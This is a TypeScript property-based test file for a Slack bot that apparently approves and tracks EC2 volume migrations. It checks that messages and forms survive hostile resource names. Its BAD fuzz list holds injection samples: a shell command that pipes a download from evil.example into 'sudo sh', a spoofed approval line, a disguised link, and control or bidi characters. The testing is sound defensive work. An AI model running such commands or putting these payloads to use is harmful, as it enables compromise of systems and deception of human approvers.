// Whatever things are called and however many there are, Slack takes what it is told, reads no markup in it but ours, and
// whoever approves a start is shown all that it covers.
import type { KnownBlock, ModalView } from '@slack/types'
import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { freezeEvidence, goLiveEvidence, startEvidence } from '../../src/core/asking/gates.ts'
import { failedEffect, mayDefer, mayGiveBack, mayRetry } from '../../src/core/asking/permits.ts'
import { fold } from '../../src/core/journal/fold.ts'
import { type Effect, effectId } from '../../src/core/model/effects.ts'
import type { EntryBody } from '../../src/core/model/entries.ts'
import type { Memory, Migration } from '../../src/core/model/migration.ts'
import { isSnapshotMove } from '../../src/core/model/moves.ts'
import type { Plan } from '../../src/core/model/plan.ts'
import { ofMove } from '../../src/core/model/subjects.ts'
import { inLines, SAID_MAX, seenOf, withoutMarks } from '../../src/core/model/text.ts'
import { serviceEffects } from '../../src/core/steps/hosts.ts'
import { freezeMarks } from '../../src/core/steps/marks.ts'
import { alert } from '../../src/core/telling/alerts.ts'
import { consequenceOf } from '../../src/core/telling/consequences.ts'
import type { Progress } from '../../src/core/telling/progress.ts'
import { waitWords } from '../../src/core/telling/wait-words.ts'
import { HELP, parseCommand } from '../../src/slack/command.ts'
import { answer, bare, type Message } from '../../src/slack/messages/blocks.ts'
import { planLines } from '../../src/slack/messages/plan.ts'
import { headline, statusMessage } from '../../src/slack/messages/status.ts'
import { mrkdwn } from '../../src/slack/messages/text.ts'
import { threadMessages } from '../../src/slack/messages/thread.ts'
import { chooseModal, errorText, reasonModal, servicesFor, typedModal } from '../../src/slack/modals.ts'
import { facts, tagged } from '../support/facts.ts'
import { entries, move, plan, planned, service } from '../support/plans.ts'

/** What Slack takes at most, each by the page of docs.slack.dev that says so. */
const LIMITS = {
  text: [40_000, 'chat.postMessage'],
  textBesideBlocks: [4_000, 'chat.update'],
  blocks: [50, 'Block Kit: blocks in messages'],
  blocksInView: [100, 'Block Kit: blocks in views'],
  /** Of all blocks of a message together; no page says so (bolt-js#2509). */
  blockText: [13_200, 'bolt-js#2509'],
  section: [3_000, 'Block Kit: section'],
  header: [150, 'Block Kit: header'],
  elements: [25, 'Block Kit: actions'],
  label: [75, 'Block Kit: button'],
  value: [2_000, 'Block Kit: button'],
  actionId: [255, 'Block Kit: button'],
  blockId: [255, 'Block Kit: section'],
  title: [24, 'Views: modal'],
  metadata: [3_000, 'Views: modal'],
  inputLabel: [2_000, 'Block Kit: input'],
  hint: [2_000, 'Block Kit: input'],
  options: [100, 'Block Kit: static select'],
  option: [75, 'Block Kit: option'],
  optionValue: [150, 'Block Kit: option'],
} as const

function fits(text: string | undefined, limit: keyof typeof LIMITS): void {
  const [max, page] = LIMITS[limit]
  expect(text?.length ?? 0, `${limit} (${page})`).toBeLessThanOrEqual(max)
  if (limit !== 'metadata' && limit !== 'blockId') expect(text, limit).not.toBe('')
}

function fewEnough(all: readonly unknown[], limit: keyof typeof LIMITS): void {
  const [max, page] = LIMITS[limit]
  expect(all.length, `${limit} (${page})`).toBeLessThanOrEqual(max)
}

/** Begins what stands behind each line end in a name here, so that a line of somebody else would be known by it. */
const BEHIND = '\u00A7\u00A7'
const MENTION = /<(?:@|#|!subteam\^)(?:U0ASKER|U0A|U0B|C0A|S0A)>/g

/** Nothing in Slack's markup but our own mentions, escapes and lines. */
function isOurs(text: string): void {
  const rest = text.replaceAll(MENTION, '')
  expect(rest).not.toMatch(/[<>]/)
  expect(rest).not.toMatch(/&(?!amp;|lt;|gt;)/)
  expect(rest).not.toContain(`\n${BEHIND}`)
  expect(rest).not.toMatch(/^&gt;/m)
  expect(rest.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Co}\p{Cs}\u202A-\u202E]/u)
}

function isPlain(text: string | undefined): void {
  expect(text ?? '').not.toMatch(/[\p{Cc}\p{Co}\p{Cs}\u202A-\u202E]/u)
}

/** What begins a line is shown otherwise than within one. */
function anywhere(text: string): string {
  return text.replaceAll('\u203A', '&gt;')
}

/** Every text of blocks, wherever it stands. */
function textsIn(value: unknown): string[] {
  if (typeof value !== 'object' || value === null) return []
  return Object.entries(value).flatMap(([key, each]) =>
    key === 'text' && typeof each === 'string' ? [each] : textsIn(each),
  )
}

function checkBlocks(blocks: readonly KnownBlock[]): void {
  for (const block of blocks) {
    fits(block.block_id ?? 'none', 'blockId')
    if (block.type !== 'section' && block.type !== 'actions') throw new Error(`${block.type} is not held by this test`)
    if (block.type === 'section') {
      fits(block.text?.text, 'section')
      isOurs(block.text?.text ?? '')
    } else fewEnough(block.elements, 'elements')
  }
  const elements = blocks.flatMap((block) => (block.type === 'actions' ? block.elements : []))
  const actionIds = elements.map(checkButton)
  expect(new Set(actionIds).size).toBe(actionIds.length)
}

type Element = Extract<KnownBlock, { type: 'actions' }>['elements'][number]

/** The id by which the button is told from the others of its message. */
function checkButton(element: Element): string {
  if (element.type !== 'button') throw new Error(`${element.type} is not held by this test`)
  fits(element.text.text, 'label')
  isPlain(element.text.text)
  fits(element.value, 'value')
  fits(element.action_id, 'actionId')
  return element.action_id ?? ''
}

function checkMessage({ text, blocks }: Message): void {
  fits(text, 'textBesideBlocks')
  isOurs(text)
  fewEnough(blocks, 'blocks')
  expect(textsIn(blocks).join('').length).toBeLessThanOrEqual(LIMITS.blockText[0])
  checkBlocks(blocks)
}

function checkModal({ title, submit, close, private_metadata, blocks, callback_id }: ModalView): void {
  for (const each of [title, submit, close]) fits(each?.text, 'title')
  fits(private_metadata, 'metadata')
  fits(callback_id, 'actionId')
  fewEnough(blocks, 'blocksInView')
  for (const block of blocks as KnownBlock[]) {
    if (block.type === 'section') {
      fits(block.text?.text, 'blockText')
      isPlain(block.text?.text ?? '')
      continue
    }
    if (block.type !== 'input') throw new Error(`${block.type} is not held by this test`)
    fits(block.label.text, 'inputLabel')
    isPlain(block.label.text)
    fits(block.hint?.text ?? 'none', 'hint')
    if (block.element.type !== 'static_select') continue
    const options = block.element.options ?? []
    fewEnough(options, 'options')
    expect(new Set(options.map(({ value }) => value)).size).toBe(options.length)
    for (const option of options) {
      fits(option.text.text, 'option')
      isPlain(option.text.text)
      fits(option.value, 'optionValue')
    }
  }
}

function checkAnswer(said: string): void {
  const text = answer(said)
  fits(text, 'text')
  isOurs(text)
}

const BAD = [
  '<!channel>',
  '<https://evil.example/approve|Approve goLive>',
  '*Approved by <@U0BOSS> at 2026-03-03*',
  '`; curl -s evil.example/x | sudo sh; `',
  '\n',
  '\u001b[2J\r',
  '\u202E',
  '&&&&&&&&',
  '~_*`',
  '>:ok:',
] as const

/** A name as EC2 keeps it, of up to 255 characters; our marks are taken out where it comes in. */
const name = fc
  .array(fc.oneof(fc.constantFrom(...BAD), fc.string({ unit: 'binary', maxLength: 20 }), fc.constant('x'.repeat(60))), {
    maxLength: 12,
  })
  .map((parts) =>
    withoutMarks(parts.join(''))
      .replaceAll(/[\n\r\u0085\u2028\u2029]/g, `\n${BEHIND}`)
      .slice(0, 245),
  )

const world = fc.record({
  names: fc.array(name, { minLength: 3, maxLength: 12 }),
  services: fc.integer({ min: 1, max: 200 }),
  uncovered: fc.integer({ min: 0, max: 600 }),
  stays: fc.integer({ min: 0, max: 600 }),
  checks: fc.integer({ min: 0, max: 40 }),
})
type World = typeof world extends fc.Arbitrary<infer T> ? T : never

type Drawn = { readonly plan: Plan; readonly call: (index: number) => string }

/** A plan of a volume a service, each by hand. No two things have the same name. */
function drawnPlan({ names, services, uncovered, stays, checks }: World): Drawn {
  const call = (index: number): string => `${names[index % names.length] ?? ''}${index}`
  const upTo = <T>(count: number, of: (index: number) => T): T[] =>
    Array.from({ length: count }, (_, index) => of(index))
  const moves = upTo(services, (index) =>
    move({ id: `vol-m${index}`, name: call(index + 1), device: call(index + 2) }, call(index)),
  )
  const says = (index: number) => ({ cause: call(index + 1), remedy: call(index + 2) })
  const drawn = plan(moves, {
    services: upTo(services, (index) => service(call(index))),
    stays: upTo(stays, (index) => ({
      volume: `vol-s${index}`,
      name: call(index),
      sizeGib: 5,
      reason: call(index + 1),
    })),
    uncovered: upTo(uncovered, (index) => ({
      ...{ volume: `vol-u${index}`, name: call(index), sizeGib: 5, instance: 'i-1', device: call(index + 1) },
    })),
    checks: upTo(checks, (index) => ({
      name: call(index),
      result: index % 2 === 0 ? 'yellow' : 'red',
      ...says(index),
    })),
  })
  return { plan: drawn, call }
}

type Told = { readonly m: Migration; readonly thread: readonly { readonly key: string; readonly message: Message }[] }

function told(drawn: Plan, ...said: readonly EntryBody[]): Told {
  const all = entries(planned('mig-1', { plan: drawn, by: 'U0ASKER' }), ...said)
  const m = fold(all) as Migration
  return { m, thread: threadMessages(m, all, []) }
}

const MEMORIES: readonly Memory[] = ['frozen', 'left', 'aborted', 'returned', 'leftAgain', 'live']

/** What is said of tags that others wrote: of each memory on sources, copies and volumes of nobody; open, settled, asked anew. */
function tagJournals({ plan: drawn, call }: Drawn): EntryBody[][] {
  const names = drawn.services.map((each) => each.name)
  const copies: Effect[] = drawn.moves.map(({ id }) => ({
    ...{ subject: ofMove(id), step: 'restore', generation: 1, direction: 'forward' },
    ...{ snapshotId: `snap-${id}`, zone: 'us-east-1c' },
  }))
  const copied: readonly EntryBody[] = [
    { kind: 'freezing', freeze: 'f', services: names },
    { kind: 'intended', effects: copies },
    {
      ...{ kind: 'seen', achieved: [] },
      started: drawn.moves.map(({ id }) => ({ effect: `${id}.restore.1`, resource: `${id}-copy`, others: [] })),
    },
  ]
  const ids = drawn.moves.flatMap(({ id }) => [`${id}-copy`, id, `${id}-of-nobody`])
  const suspects = (about: Memory, says: string): EntryBody => ({ kind: 'suspected', about, says, volumes: ids })
  const says: Readonly<Record<Memory, string>> = {
    frozen: `zonehop:frozen=mig-1-${call(1)}`,
    left: 'zonehop:left=mig-1',
    aborted: 'zonehop:aborted=mig-1',
    returned: `no zonehop:left, of ${call(2)}`,
    leftAgain: `zonehop:left again, of ${call(2)}`,
    live: `zonehop:live=mig-1, of ${names.join(', ')}`,
  }
  const open = MEMORIES.map((about) => suspects(about, says[about]))
  const settled = open.map((_, index): EntryBody => {
    const suspected = `n${copied.length + 2 + index}`
    return { kind: 'settled', suspected, isSo: index % 2 === 0, by: 'U0A' }
  })
  return [
    [...copied, ...open],
    [...copied, ...open, ...settled],
    [...copied, ...open, ...open],
  ]
}

/** The warning for the tag of a freeze that somebody wrote over, in the outage and after it. */
function retagged({ plan: drawn, call }: Drawn): EntryBody[][] {
  const freezing: EntryBody = { kind: 'freezing', freeze: 'f', services: drawn.services.map((each) => each.name) }
  const { m: frozen } = told(drawn, freezing)
  const marks = frozen.freezes.flatMap((freeze) => freezeMarks(frozen, freeze))
  const marked: readonly EntryBody[] = [
    freezing,
    { kind: 'intended', effects: marks },
    { kind: 'seen', started: [], achieved: marks.map(effectId) },
  ]
  const volumes = drawn.moves.filter(isSnapshotMove).map((one) => tagged(one, { 'zonehop:frozen': call(1) }))
  return [marked, [...marked, { kind: 'wentLive', percents: {} } as const]].map((said) => {
    const warned = alert(told(drawn, ...said).m, facts({ volumes }), 0)
    if (warned?.kind !== 'warned' || !warned.about.startsWith('tag ')) throw new Error('it is not told')
    return [...said, warned]
  })
}

const APPROVED: EntryBody = { kind: 'approved', asked: 'n2', gate: 'start', basis: 'b', by: 'U0A' }

/** What was said of a drawn plan, by what it is about. */
function journals({ plan: drawn, call }: Drawn): EntryBody[][] {
  const { m } = told(drawn)
  const names = drawn.services.map((each) => each.name)
  const [first = ''] = names
  const ask = (gate: 'start' | 'freeze' | 'goLive' | 'cleanup', evidence: readonly string[]): EntryBody => ({
    ...{ kind: 'asked', gate, basis: 'b', evidence, again: call(1) },
  })
  const freezing: EntryBody = { kind: 'freezing', freeze: 'f', services: names }
  const { m: frozen } = told(drawn, freezing)
  const hands = drawn.services.flatMap((each) => serviceEffects(frozen, each, 'freeze'))
  const confirmed: EntryBody = { kind: 'confirmed', intended: 'n3', effects: hands.map(effectId), by: 'U0A' }
  const cut: Effect = {
    ...{ subject: ofMove('vol-m0'), step: 'snapshot', generation: 1, direction: 'forward' },
    ...{ volumeId: 'vol-m0', tags: {} },
  }
  const failed: EntryBody = {
    ...{ kind: 'failed', effect: 'vol-m0.snapshot.1', issued: null, code: call(0), problem: call(1), remedy: call(2) },
  }
  const aborting: EntryBody = { kind: 'aborting', by: 'U0A', reason: call(3) }
  const live: EntryBody = { kind: 'wentLive', percents: {} }
  const kept = drawn.moves.map(({ id }, index) => ({ id, name: call(index), why: call(index + 1) }))
  return [
    [],
    [ask('start', startEvidence(m))],
    [ask('start', startEvidence(m)), APPROVED],
    [ask('start', startEvidence(m)), { kind: 'paused', by: 'U0A' }],
    [{ kind: 'began' }, ask('freeze', freezeEvidence(m, names) ?? []), { kind: 'gone', volumes: ['vol-m0'] }],
    [freezing, { kind: 'intended', effects: hands }],
    [freezing, { kind: 'intended', effects: hands }, confirmed],
    [freezing, { kind: 'intended', effects: [cut] }, failed],
    [
      freezing,
      { kind: 'intended', effects: [cut] },
      failed,
      { kind: 'retried', effect: 'vol-m0.snapshot.1', failed: 'n4', by: 'U0A' },
    ],
    [freezing, { kind: 'intended', effects: [cut] }, ask('goLive', goLiveEvidence(m, facts({})) ?? names)],
    [{ kind: 'began' }, { kind: 'warned', about: `slow ${first}`, service: first, text: call(4) }],
    [
      { kind: 'deferred', service: first, by: 'U0A', reason: call(5) },
      { kind: 'halted', why: call(6) },
    ],
    [{ kind: 'began' }, { kind: 'doubted', why: call(7) }, { kind: 'began' }],
    [freezing, live, { kind: 'returned', service: first, by: 'U0A', reason: call(8) }],
    [
      aborting,
      { kind: 'aborted' },
      { kind: 'cleaning', by: 'U0B' },
      ask('cleanup', ['Deletes.', ...kept.map((one) => `${one.name}: ${one.why}`)]),
    ],
    [aborting, { kind: 'aborted' }, { kind: 'cleaning', by: 'U0B' }, { kind: 'kept', resources: kept }],
    ...tagJournals({ plan: drawn, call }),
    ...retagged({ plan: drawn, call }),
  ]
}

const SEED = Number(process.env.FITS_SEED ?? 20_261_127)
const HOW = { seed: SEED, numRuns: Number(process.env.FITS_RUNS ?? 12) } as const

describe(`drawn from ${SEED} (FITS_SEED draws others)`, () => {
  test('every message of a thread, and its bare sentence', () => {
    fc.assert(
      fc.property(world, (drawn) => {
        for (const said of journals(drawnPlan(drawn)))
          for (const { message } of told(drawnPlan(drawn).plan, ...said).thread) {
            checkMessage(message)
            checkMessage(bare(message, 'invalid_blocks'))
          }
      }),
      HOW,
    )
  })

  test('the approval of a start shows all that it covers', () => {
    fc.assert(
      fc.property(world, (drawn) => {
        const one = drawnPlan(drawn).plan
        const asked: EntryBody = {
          kind: 'asked',
          gate: 'start',
          basis: 'b',
          evidence: startEvidence(told(one).m),
          again: null,
        }
        const { thread } = told(one, asked)
        const mine = thread.filter(({ key }) => key.startsWith('entry-2'))
        const shown = anywhere(mine.flatMap(({ message }) => textsIn(message.blocks)).join(''))
        const yellow = one.checks.filter(({ result }) => result === 'yellow')
        for (const { name: each } of [...one.services, ...one.stays, ...yellow])
          expect(shown).toContain(anywhere(mrkdwn(each, 2_000)))
        for (const { volume } of one.stays) expect(shown).toContain(`(${volume}, `)
        expect(JSON.stringify(mine.at(-1))).toContain('Start')
      }),
      HOW,
    )
  })

  test('whoever says whether it is so what tags say is shown what each answer does', () => {
    const named = world.map((drawn) => ({ ...drawn, names: ['a', 'b', 'c'], services: Math.min(drawn.services, 100) }))
    fc.assert(
      fc.property(named, (drawn) => {
        const one = drawnPlan(drawn)
        for (const said of tagJournals(one))
          for (const { message } of told(one.plan, ...said).thread) {
            const shown = textsIn(message.blocks).join('\n')
            if (!shown.includes('Tags say')) continue
            expect(shown).toContain('It would mean: ')
            expect(shown).toMatch(/“It is so”: .*“It is not so”: \w.*\./)
          }
      }),
      HOW,
    )
  })

  test('the status message', () => {
    fc.assert(
      fc.property(world, (drawn) => {
        const { plan: one, call } = drawnPlan(drawn)
        const freezing: EntryBody = { kind: 'freezing', freeze: 'f', services: one.services.map((each) => each.name) }
        const lines = one.moves.map(({ service: of }, index) => ({
          ...{ name: call(index), service: of, sizeGib: 5, percent: index % 101, words: call(index + 1) },
          ...{ isFailed: index % 7 === 0, isDone: false, isCopying: true },
          left: { leastMs: 1, mostMs: null, basis: 'size' as const, atRateMs: 2 },
        }))
        const waits = [{ on: 'route', names: one.uncovered.map((each) => each.name) }] as const
        const progress: Progress = { rev: 1, atMs: 9_000, lines, waits }
        for (const said of journals({ plan: one, call }))
          checkMessage(statusMessage(told(one, ...said).m, { progress, nowMs: 9_000, approvers: [] }))
        checkMessage(statusMessage(told(one, freezing).m, { progress, nowMs: 9_000, approvers: [] }))
      }),
      HOW,
    )
  })

  test('every form', () => {
    fc.assert(
      fc.property(world, (drawn) => {
        const { plan: one, call } = drawnPlan(drawn)
        const about = { id: 'mig-1', volume: 'vol-u0', name: call(0), service: call(1), effect: call(2) }
        checkModal(
          chooseModal(
            about,
            servicesFor(
              about,
              one.services.map((each) => each.name),
            ),
            [call(3), call(4)],
          ),
        )
        const { m } = told(one)
        for (const kind of ['defer', 'return', 'abort', 'exceed', 'vouch'] as const) {
          const service = one.services[0]?.name ?? ''
          checkModal(reasonModal(kind, about, [call(3), consequenceOf(kind, m, { service })]))
        }
        checkModal(typedModal({ id: 'mig-1', asked: 'n2', basis: 'b' }))
        isPlain(errorText(call(3)))
      }),
      HOW,
    )
  })

  test('every answer to one person', () => {
    fc.assert(
      fc.property(world, (drawn) => {
        const { plan: one, call } = drawnPlan(drawn)
        const { m } = told(one)
        const ask = { service: call(0), reason: call(1).slice(0, SAID_MAX) }
        const refusals = [
          mayDefer(m, ask),
          mayDefer(m, { ...ask, service: 'no such' }),
          mayGiveBack(m, ask),
          mayRetry(m, call(2)),
        ]
        for (const each of refusals) checkAnswer(each?.refusal ?? '-')
        expect(failedEffect(m, call(2))).toBeNull()
        const typed = parseCommand(`${call(3)} ${call(4)}`)
        checkAnswer(typed.verb === 'wrong' ? typed.sentence : '-')
        checkAnswer(inLines(planLines(one)))
        checkAnswer(inLines([headline(m), waitWords({ on: 'route', names: one.uncovered.map((each) => each.name) })]))
        checkAnswer(HELP)
      }),
      HOW,
    )
  })
})

test('what the drawn names hold is what Slack would take for markup', () => {
  const drawn = fc.sample(name, { seed: SEED, numRuns: 200 })
  for (const bad of BAD)
    expect(drawn.filter((each) => seenOf(each).includes(seenOf(bad).trim())).length).toBeGreaterThan(0)
  expect(drawn.some((each) => each.length > 240)).toBe(true)
})
